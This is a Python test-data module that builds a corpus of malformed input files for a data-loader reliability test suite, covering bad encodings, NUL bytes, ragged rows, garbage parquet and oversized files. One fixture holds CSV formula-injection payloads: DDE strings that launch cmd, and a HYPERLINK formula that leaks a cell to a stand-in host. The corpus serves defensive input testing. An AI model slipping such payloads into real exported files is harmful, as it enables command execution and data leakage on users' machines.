"""The reliability suite's bad-input corpus: ``tests/data/bad/rel_*`` (committed, small)
plus the large cases built at test time (oversized, huge column counts, endless lines).

    PYTHONPATH=tests .venv/bin/python -m reliability._corpus   # rewrite the rel_* files

The rest of tests/data/bad/ belongs to the plugins' own bad-input tests
(tests/plugins/test_bad_inputs.py); this module only ever writes ``rel_*``.
"""

from __future__ import annotations

import io
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

__all__ = ["CORPUS", "GENERATED", "committed", "write"]

CORPUS = Path(__file__).resolve().parents[1] / "data" / "bad"
HEADER = "x1,x2,plan,y"


def _rows(n: int, seed: int = 0) -> list[str]:
    rng = random.Random(seed)
    out = []
    for i in range(n):
        x1 = rng.random()
        out.append(f"{x1:.3f},{rng.random():.3f},{rng.choice(['basic', 'pro'])},{i % 2}")
    return out


def _csv(lines: list[str]) -> bytes:
    return ("\n".join(lines) + "\n").encode()


def _xlsx_like() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    return buffer.getvalue()


def committed() -> dict[str, bytes]:
    """Every committed ``rel_*`` file: name -> bytes."""
    good = _rows(40)
    text = "\n".join([HEADER, *good]) + "\n"
    return {
        "rel_nul_bytes.csv": _csv([HEADER, *good[:20], "0.5,0.5,ba\x00sic,1", *good[20:]]),
        "rel_bom_only.csv": b"\xef\xbb\xbf",
        "rel_ragged_rows.csv": _csv([HEADER, *good[:20], "0.1,0.2,pro,1,extra,fields", *good[20:]]),
        "rel_formula_variants.csv": _csv(
            [
                HEADER,
                *good[:10],
                "0.1,0.2,@SUM(1+1)*cmd|' /C calc'!A0,1",
                "0.3,0.4,+cmd|' /C notepad'!A0,0",
                "0.5,0.6,-2+3+cmd|' /C calc'!A0,1",
                '0.7,0.8,"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",0',
                *good[10:],
            ]
        ),
        "rel_html_error_page.csv": (
            b"<!DOCTYPE html>\n<html><head><title>403 Forbidden</title></head>\n"
            b"<body><h1>Forbidden</h1><p>You don't have permission.</p></body></html>\n"
        ),
        "rel_xlsx_named.csv": _xlsx_like(),
        "rel_cp1252_quotes.csv": text.replace("basic", "\u201cbasic\u201d", 3).encode("cp1252"),
        "rel_shift_jis.csv": text.replace("basic", "\u57fa\u672c", 5).encode("shift_jis"),
        "rel_no_header.csv": _csv(good),
        "rel_target_only.csv": _csv(["y", *(str(i % 2) for i in range(40))]),
        "rel_infinite_values.csv": _csv(
            [HEADER, *good[:20], "inf,0.5,pro,1", "-inf,0.5,pro,0", "1e999,0.5,basic,1", *good[20:]]
        ),
        "rel_nan_target_strings.csv": _csv(
            [
                HEADER,
                *(
                    r.rsplit(",", 1)[0] + "," + ("NaN", "null", "")[i % 3]
                    for i, r in enumerate(good)
                ),
            ]
        ),
        "rel_parquet_garbage.parquet": b"PAR1" + random.Random(1).randbytes(2000) + b"PAR1",
        "rel_jsonl_mixed.jsonl": (
            b'{"x1": 0.1, "x2": 0.2, "plan": "pro", "y": 1}\n[1, 2, 3]\n42\n'
            b'{"x1": "a", "y": {"nested": true}}\n{not json}\n'
        ),
        "rel_json_scalar.json": b"42\n",
        "rel_truncated_utf8.csv": text.replace("basic", "b\u00e4sic").encode()[:-5]
        + "\u00e4".encode()[:1],
        "rel_whitespace_cells.csv": _csv(
            [HEADER, *("   ,  ,pro," + str(i % 2) for i in range(40))]
        ),
        "rel_duplicate_target.csv": _csv(
            ["x1,y,y", *(f"0.{i},{i % 2},{(i + 1) % 2}" for i in range(40))]
        ),
    }


def _huge_columns() -> bytes:
    columns = [f"c{i}" for i in range(5000)] + ["y"]
    row = ",".join(["1"] * 5000)
    return _csv([",".join(columns), *(f"{row},{i % 2}" for i in range(30))])


def _long_line() -> bytes:
    return b"x1," + b"a" * 3_000_000


def _deep_json() -> bytes:
    return b"[" * 200_000 + b"]" * 200_000


def _oversized() -> bytes:
    """Over the 4 MiB limit test_bad_input.py configures: fails without being read."""
    line = b"0.123,0.456,basic,1\n"
    return HEADER.encode() + b"\n" + line * (5 * 1024 * 1024 // len(line))


GENERATED: dict[str, Callable[[], bytes]] = {
    "rel_huge_columns.csv": _huge_columns,
    "rel_endless_line.csv": _long_line,
    "rel_deep_nesting.json": _deep_json,
    "rel_oversized.csv": _oversized,
}
"""Large cases, built at test time instead of committed."""


def write() -> list[Path]:
    """(Re)write the committed ``rel_*`` files; return their paths."""
    paths = []
    for name, data in committed().items():
        path = CORPUS / name
        path.write_bytes(data)
        paths.append(path)
    return paths


if __name__ == "__main__":
    for path in write():
        print(path)
